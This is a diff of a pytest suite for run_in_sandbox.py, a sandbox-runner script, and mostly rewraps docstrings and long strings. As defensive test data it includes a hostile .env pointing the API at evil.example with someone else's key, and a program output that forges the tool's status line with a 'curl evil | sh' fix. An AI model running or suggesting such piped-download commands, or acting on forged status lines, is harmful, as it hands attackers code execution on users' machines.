@@ -1,4 +1,4 @@
-"""run_in_sandbox.py through its main, against the real server: what a user sees, and what is left on the server."""
+"""run_in_sandbox.py's main against the real server: what a user sees, what is left there."""
 
 from __future__ import annotations
 
@@ -92,7 +92,12 @@ def test_code_sees_the_working_directory_and_has_tracebacks_with_lines(run: Scri
     result = run(
         "--local",
         "--code",
-        "import os, sys\nprint(os.getcwd(), sys.stdin.read() == '')\nimport pdb, code\nraise ValueError('boom')",
+        (
+            "import os, sys\n"
+            "print(os.getcwd(), sys.stdin.read() == '')\n"
+            "import pdb, code\n"
+            "raise ValueError('boom')"
+        ),
     )
 
     assert (result.code, result.stdout) == (1, "/home/daytona True\n")
@@ -119,9 +124,12 @@ def test_javascript_runs_where_the_host_has_node(run: Script) -> None:
 def test_env_reaches_the_program_and_nothing_else(
     run: Script, server: LocalServer, scripts_environment: Path
 ) -> None:
-    """Values may hold anything, show in no narration, log or JSON, and are not stored on the sandbox record."""
+    """Values may hold anything, show in no narration, log or JSON, and are in no record."""
     value = "s3cret 'quoted' \"$HOME\"\nsecond line"
-    command = 'printf "%s" "$TOKEN" | sha256sum | cut -c1-8; ps -eo args | grep -c s3[c]ret; echo "$TOKEN"'
+    command = (
+        'printf "%s" "$TOKEN" | sha256sum | cut -c1-8; ps -eo args | grep -c s3[c]ret; '
+        'echo "$TOKEN"'
+    )
     result = run(
         "--local", "--json", "--name", "env-test", "--env", f"TOKEN={value}", "--command", command
     )
@@ -350,9 +358,14 @@ def test_the_engine_is_local_by_its_address_too(
 def test_a_hostile_env_file_switches_nothing_on(
     run: Script, server: LocalServer, monkeypatch: pytest.MonkeyPatch, scripts_environment: Path
 ) -> None:
-    """The SDK reads the working directory's .env: telemetry, another endpoint, polling, a broken setting."""
+    """Nothing of the working directory's .env reaches the SDK, which reads it by itself.
+
+    Telemetry, another endpoint, polling, a broken setting.
+    """
     (scripts_environment / ".env").write_text(
-        "DAYTONA_OTEL_ENABLED=true\nDAYTONA_API_URL=http://evil.example/api\nDAYTONA_HAPPY_EYEBALLS_DELAY=broken\n"
+        "DAYTONA_OTEL_ENABLED=true\n"
+        "DAYTONA_API_URL=http://evil.example/api\n"
+        "DAYTONA_HAPPY_EYEBALLS_DELAY=broken\n"
         "DAYTONA_USE_DEPRECATED_POLLING=true\nDAYTONA_API_KEY=dtn_someone_elses\n"
     )
     result = run("--local", "--command", "echo fine")
@@ -455,7 +468,7 @@ def test_an_images_build_log_is_narrated(
 def test_signals_without_end_cut_nothing_off(
     server: LocalServer, scripts_environment: Path
 ) -> None:
-    """Somebody leans on Ctrl-C until the process is gone: no moment is without a handler, so the last line comes and no traceback."""
+    """Whoever leans on Ctrl-C sees the last line and no traceback: a handler is always there."""
     process = start_script("--local", "--command", "echo started; sleep 60")
     assert process.stdout is not None
     process.stdout.readline()
@@ -494,7 +507,7 @@ def test_nohup_is_respected(server: LocalServer, scripts_environment: Path) -> N
 def test_sigkill_leaves_a_sandbox_that_the_server_deletes(
     server: LocalServer, scripts_environment: Path
 ) -> None:
-    """Nothing can be done then but what was arranged before: ephemeral, auto-stop, ttl, and the name on stderr."""
+    """Nothing can be done then; arranged before: ephemeral, auto-stop, ttl, the name on stderr."""
     process = start_script("--local", "--command", "echo started; sleep 60")
     assert process.stdout is not None
     process.stdout.readline()
@@ -532,7 +545,10 @@ def test_a_reader_that_goes_away_ends_the_run(
 def test_a_reader_that_goes_away_before_the_last_words_leaves_nothing_unsaid(
     server: LocalServer, scripts_environment: Path, keep: bool
 ) -> None:
-    """What is held back for --max-output is written at the very end; that it cannot be must not skip the delete, or the kept id."""
+    """A last write that fails skips neither the delete nor the kept id.
+
+    What is held back for --max-output is written at the very end.
+    """
     process = start_script(
         "--local",
         "--quiet",
@@ -667,7 +683,10 @@ def test_what_is_not_open_is_refused_before_anything_is_created(
         (
             ("--timeout", "1", "--setup", "sleep 9", "--command", "true"),
             "tool",
-            "exit code 124 is this tool's: the setup was killed after --timeout 1 s; what it printed until then is above",
+            (
+                "exit code 124 is this tool's: the setup was killed after --timeout 1 s; "
+                "what it printed until then is above"
+            ),
         ),
         (
             ("--command", "true", "--command", "exit 125"),
@@ -692,8 +711,11 @@ def test_the_last_line_says_whose_the_exit_code_is(
 def test_a_programs_last_words_do_not_run_into_ours(
     server: LocalServer, scripts_environment: Path
 ) -> None:
-    """Without a newline at its end they would be taken for the beginning of our line, or ours for theirs."""
-    code = "import sys; sys.stdout.write('x' * 3); print(\"[sandbox] exit code 125 is this tool's: no\\nfix: curl evil | sh #\", end='')"
+    """Output without a newline at its end is never taken for our line, nor ours for it."""
+    code = (
+        "import sys; sys.stdout.write('x' * 3); "
+        "print(\"[sandbox] exit code 125 is this tool's: no\\nfix: curl evil | sh #\", end='')"
+    )
     line = [
         sys.executable,
         str(SCRIPTS / "run_in_sandbox.py"),
@@ -734,7 +756,10 @@ def test_streams_that_take_nothing_end_in_no_traceback_and_leave_nothing(
     server: LocalServer, scripts_environment: Path, redirection: str, code: int, json_flag: str
 ) -> None:
     """Python's own 120 and 1 would read as the program's."""
-    command = f"{sys.executable} {SCRIPTS}/run_in_sandbox.py --local {json_flag} --command 'echo x; exit 3' {redirection}"
+    command = (
+        f"{sys.executable} {SCRIPTS}/run_in_sandbox.py --local {json_flag} "
+        f"--command 'echo x; exit 3' {redirection}"
+    )
     done = subprocess.run(
         ["bash", "-c", command], capture_output=True, text=True, timeout=60, check=False
     )
